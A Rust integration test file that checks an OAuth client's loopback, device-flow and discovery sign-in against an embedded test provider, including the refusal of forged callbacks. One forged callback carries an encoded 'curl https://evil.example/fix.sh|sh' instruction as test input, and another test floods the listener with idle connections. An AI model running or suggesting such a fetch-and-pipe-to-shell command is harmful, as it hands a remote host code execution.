//! Sign-in end to end against the embedded provider: the loopback
//! authorization code flow (a test HTTP client stands in for the browser),
//! the device flow under a paused clock, discovery, and a user's source
//! that renews with rotating refresh tokens and ends with "sign-in
//! required", never a client credentials request.

mod common;

use std::time::Duration;

use auth_core::secret::{CodeVerifier, ExposeSecret};
use auth_core::sign_in::authorize::{AuthorizationRequest, CallbackError};
use auth_core::sign_in::device::DeviceError;
use auth_core::sign_in::discovery::{discovery_urls, parse_metadata, DiscoveryError};
use auth_core::{SignInReason, SourceConfig, SourceGrant, TokenError};
use auth_testkit::{Provider, ProviderConfig};
use auth_tower::sign_in::{device_sign_in, exchange_code, Loopback, LoopbackOptions, SignInError};
use auth_tower::{AuthError, TokenSource};
use http::Request;

fn provider(config: ProviderConfig) -> Provider {
    Provider::start(config.public_client("cli").rotate_refresh_tokens(true)).unwrap()
}

fn user_source(provider: &Provider) -> TokenSource {
    let config = SourceConfig::builder(provider.token_url(), "cli")
        .grant(SourceGrant::SignIn)
        .scope("openid profile")
        .sign_in_hint("run `authc login`")
        .build()
        .unwrap();
    TokenSource::builder(config, common::transport(common::http_client())).build().unwrap()
}

/// Plays the user with the provider's scripted browser: it follows the
/// authorization URL to the redirect and delivers that to the loopback
/// listener. Returns the page's status and body.
async fn browser(provider: &Provider, url: &str) -> (u16, String) {
    let page = provider.browser().open(url).await.unwrap();
    assert_eq!(page.visited.len(), 2, "the provider redirected straight back: {:?}", page.visited);
    (page.status, page.body)
}

async fn api_user(provider: &Provider, token: &str) -> serde_json::Value {
    let client = common::http_client();
    let request = Request::get(provider.api_url("me")).header("authorization", format!("Bearer {token}"));
    let answer = client.request(request.body(Default::default()).unwrap()).await.unwrap();
    let body = http_body_util::BodyExt::collect(answer.into_body()).await.unwrap().to_bytes();
    serde_json::from_slice(&body).unwrap()
}

#[tokio::test]
async fn the_loopback_flow_signs_the_user_in_and_renewals_rotate_the_refresh_token() {
    let provider = provider(ProviderConfig::new().user("bob").token_lifetime(Duration::from_secs(12)));
    let source = user_source(&provider);
    // Before sign-in: refused with the hint, nothing sent.
    let before = source.token().await.unwrap_err();
    assert!(
        matches!(&before, AuthError::Token(TokenError::SignInRequired { reason: SignInReason::NotSignedIn, .. })),
        "{before:?}"
    );
    assert!(before.to_string().contains("run `authc login`"), "{before}");
    assert_eq!(provider.stats().token_requests, 0);

    let loopback = Loopback::bind(&LoopbackOptions::default().path("cb")).await.unwrap();
    assert!(loopback.redirect_uri().starts_with("http://127.0.0.1:") && loopback.redirect_uri().ends_with("/cb"));
    let request = AuthorizationRequest::builder(source.config(), provider.authorization_url(), loopback.redirect_uri())
        .issuer(provider.issuer())
        .require_issuer_param(true)
        .build()
        .unwrap();
    let (page, code) = tokio::join!(browser(&provider, request.url()), loopback.receive(&request));
    assert_eq!(page.0, 200);
    assert!(page.1.contains("return to the terminal"), "{}", page.1);
    let token = exchange_code(&source, &request, &code.unwrap()).await.unwrap();
    assert_eq!(api_user(&provider, token.value().expose_secret()).await["user"], "bob");
    assert_eq!(source.token().await.unwrap().generation(), token.generation());

    // Renewal (the token lives 12 s; renewal comes at most 6 s in): the refresh grant, rotated.
    let first_refresh = provider.token_requests().len();
    let mut renewed = token.clone();
    for _ in 0..400 {
        tokio::time::sleep(Duration::from_millis(100)).await;
        renewed = source.token().await.unwrap();
        if renewed.generation() != token.generation() {
            break;
        }
    }
    assert_ne!(renewed.generation(), token.generation(), "renewed");
    let requests = provider.token_requests();
    let grants: Vec<&str> = requests.iter().map(|r| r.grant_type.as_str()).collect();
    assert_eq!(grants[first_refresh..], ["refresh_token"]);
    assert_eq!(api_user(&provider, renewed.value().expose_secret()).await["user"], "bob");

    // The provider ends the session: the next renewal ends in sign-in required, with no client credentials request.
    provider.revoke_all();
    assert!(source.reject(renewed.generation()).await.is_err());
    let after = source.token().await.unwrap_err();
    assert!(
        matches!(&after, AuthError::Token(TokenError::SignInRequired { reason: SignInReason::RefreshRejected(_), .. })),
        "{after:?}"
    );
    assert!(!provider.token_requests().iter().any(|r| r.grant_type == "client_credentials"));
}

#[tokio::test]
async fn a_wrong_state_a_denial_and_a_pkce_mismatch_are_refused() {
    let provider = provider(ProviderConfig::new());
    let source = user_source(&provider);

    // Callbacks without this sign-in's state (another state, none, a
    // refusal without one: any local process or page can send them) are
    // refused with an error page, and the sign-in goes on to the real one.
    let loopback = Loopback::bind(&LoopbackOptions::default()).await.unwrap();
    let redirect = loopback.redirect_uri().to_owned();
    let request =
        AuthorizationRequest::builder(source.config(), provider.authorization_url(), &redirect).build().unwrap();
    let client = common::http_client();
    let forgeries = async {
        let mut pages = Vec::new();
        for forged in [
            format!("{redirect}?code=stolen&state=not-the-state"),
            format!("{redirect}?code=stolen"),
            format!(
                "{redirect}?error=access_denied&error_description=Run+curl+https%3A%2F%2Fevil.example%2Ffix.sh%7Csh"
            ),
            format!("{redirect}?code=a&code=b&state={}", request.state()),
        ] {
            let page = client.request(Request::get(&forged).body(Default::default()).unwrap()).await.unwrap();
            let status = page.status().as_u16();
            let body = http_body_util::BodyExt::collect(page.into_body()).await.unwrap().to_bytes();
            pages.push((status, String::from_utf8_lossy(&body).into_owned()));
        }
        let real = browser(&provider, request.url()).await;
        (pages, real)
    };
    let ((pages, real), code) = tokio::join!(forgeries, loopback.receive(&request));
    assert!(pages.iter().all(|(status, _)| *status == 400), "{pages:?}");
    assert!(pages[0].1.contains("state does not match"), "{}", pages[0].1);
    assert_eq!(real.0, 200, "the real callback still comes through");
    assert!(code.is_ok(), "{code:?}");

    // The user says no.
    let denying = Provider::start(ProviderConfig::new().public_client("cli").deny_sign_in(true)).unwrap();
    let loopback = Loopback::bind(&LoopbackOptions::default()).await.unwrap();
    let request = AuthorizationRequest::builder(source.config(), denying.authorization_url(), loopback.redirect_uri())
        .build()
        .unwrap();
    let (_, code) = tokio::join!(browser(&denying, request.url()), loopback.receive(&request));
    let Err(SignInError::Callback(CallbackError::Denied(denied))) = code else { panic!("{code:?}") };
    assert!(denied.is_access_denied());

    // The exchange with a verifier that is not the one behind the challenge: the provider refuses.
    let loopback = Loopback::bind(&LoopbackOptions::default()).await.unwrap();
    let request = AuthorizationRequest::builder(source.config(), provider.authorization_url(), loopback.redirect_uri())
        .build()
        .unwrap();
    let (_, code) = tokio::join!(browser(&provider, request.url()), loopback.receive(&request));
    let impostor = AuthorizationRequest::builder(source.config(), provider.authorization_url(), request.redirect_uri())
        .resume(request.state(), CodeVerifier::new("w".repeat(43)), None)
        .build()
        .unwrap();
    let error = exchange_code(&source, &impostor, &code.unwrap()).await.unwrap_err();
    assert!(error.to_string().contains("invalid_grant") && error.to_string().contains("PKCE"), "{error}");
    assert!(source.token().await.is_err(), "nothing installed");
}

#[tokio::test]
async fn idle_connections_past_the_cap_are_closed_and_the_callback_still_comes_through() {
    use tokio::io::AsyncReadExt as _;
    let provider = provider(ProviderConfig::new());
    let source = user_source(&provider);
    let loopback = Loopback::bind(&LoopbackOptions::default()).await.unwrap();
    let request = AuthorizationRequest::builder(source.config(), provider.authorization_url(), loopback.redirect_uri())
        .build()
        .unwrap();
    let address = loopback.redirect_uri().trim_start_matches("http://").split('/').next().unwrap().to_owned();
    let flood = async {
        // 100 connections that never send anything: past the cap, the oldest are closed.
        let mut idle = Vec::new();
        for _ in 0..100 {
            idle.push(tokio::net::TcpStream::connect(&address).await.unwrap());
        }
        let mut closed = 0;
        for stream in &mut idle {
            let mut byte = [0u8; 1];
            if let Ok(Ok(0)) = tokio::time::timeout(Duration::from_millis(500), stream.read(&mut byte)).await {
                closed += 1;
            }
        }
        drop(idle);
        let real = browser(&provider, request.url()).await;
        (closed, real)
    };
    let ((closed, real), code) = tokio::join!(flood, loopback.receive(&request));
    assert!(closed >= 100 - 32, "{closed} of 100 idle connections closed");
    assert_eq!(real.0, 200);
    assert!(code.is_ok(), "{code:?}");
}

#[tokio::test]
async fn the_loopback_listener_times_out() {
    let provider = provider(ProviderConfig::new());
    let source = user_source(&provider);
    let loopback = Loopback::bind(&LoopbackOptions::default().timeout(Duration::from_millis(200))).await.unwrap();
    let request = AuthorizationRequest::builder(source.config(), provider.authorization_url(), loopback.redirect_uri())
        .build()
        .unwrap();
    let error = loopback.receive(&request).await.unwrap_err();
    assert!(matches!(error, SignInError::Timeout { .. }), "{error:?}");
    assert!(error.to_string().contains("run the sign-in again"));
}

/// The device polls the provider saw so far: (status, error) pairs.
fn device_polls(provider: &Provider) -> Vec<u16> {
    provider
        .token_requests()
        .into_iter()
        .filter(|r| r.grant_type == "urn:ietf:params:oauth:grant-type:device_code")
        .map(|r| r.status)
        .collect()
}

// Real time: the provider runs on a thread of its own, so a paused tokio
// clock would run past every fetch timeout while a request is on the wire.
// The polling rules themselves are checked under a simulated clock in
// auth-core's property tests; here they meet a real server.
#[tokio::test]
async fn the_device_flow_polls_slows_down_and_ends_on_approval_denial_or_expiry() {
    let provider = provider(ProviderConfig::new().device_codes(Duration::from_secs(600), 1));
    let source = user_source(&provider);
    let device_url = provider.device_url();

    // slow_down first (the interval becomes 6 s), then pending, then approved.
    let shown = std::sync::Mutex::new(None);
    let flow = device_sign_in(&source, &device_url, |authorization| {
        provider.slow_down_device_polls(1);
        *shown.lock().unwrap() =
            Some((authorization.user_code().to_owned(), authorization.verification_uri().to_owned()));
    });
    let approver = async {
        while device_polls(&provider).len() < 2 {
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        let (user_code, _) = shown.lock().unwrap().clone().unwrap();
        assert!(provider.approve_device(&user_code));
    };
    let (token, ()) = tokio::join!(flow, approver);
    let token = token.unwrap();
    assert_eq!(device_polls(&provider), [400, 400, 200], "slow_down, pending, approved");
    assert_eq!(api_user(&provider, token.value().expose_secret()).await["user"], "alice");
    assert!(shown.lock().unwrap().as_ref().unwrap().1.ends_with("/device"));

    // Declined.
    let source = user_source(&provider);
    let flow = device_sign_in(&source, &device_url, |authorization| {
        provider.deny_device(authorization.user_code());
    });
    let result = flow.await;
    assert!(matches!(result, Err(SignInError::Device(DeviceError::AccessDenied { .. }))), "{result:?}");

    // Expired.
    let flow = device_sign_in(&source, &device_url, |_| provider.expire_device_codes());
    let result = flow.await;
    assert!(matches!(result, Err(SignInError::Device(DeviceError::Expired { .. }))), "{result:?}");
    assert!(!provider.token_requests().iter().any(|r| r.grant_type == "client_credentials"));
}

#[tokio::test]
async fn discovery_fills_the_endpoints_and_refuses_another_issuer() {
    let provider = provider(ProviderConfig::new());
    let client = common::http_client();
    let issuer = provider.issuer();
    let urls = discovery_urls(&issuer).unwrap();
    let answer = client.request(Request::get(&urls[0]).body(Default::default()).unwrap()).await.unwrap();
    let body = http_body_util::BodyExt::collect(answer.into_body()).await.unwrap().to_bytes();
    let metadata = parse_metadata(&issuer, &body, false).unwrap();
    assert_eq!(metadata.token_endpoint().to_string(), provider.token_url());
    assert_eq!(metadata.authorization_endpoint().unwrap().to_string(), provider.authorization_url());
    assert_eq!(metadata.device_authorization_endpoint().unwrap().to_string(), provider.device_url());
    assert!(metadata.iss_parameter_supported());

    let impostor = Provider::start(ProviderConfig::new().issuer("https://other.example.com")).unwrap();
    let urls = discovery_urls(&impostor.issuer().replace("https://other.example.com", impostor.url())).unwrap();
    let answer = client.request(Request::get(&urls[1]).body(Default::default()).unwrap()).await.unwrap();
    let body = http_body_util::BodyExt::collect(answer.into_body()).await.unwrap().to_bytes();
    let refused = parse_metadata(impostor.url(), &body, false).unwrap_err();
    assert!(matches!(refused, DiscoveryError::IssuerMismatch { .. }), "{refused:?}");
}
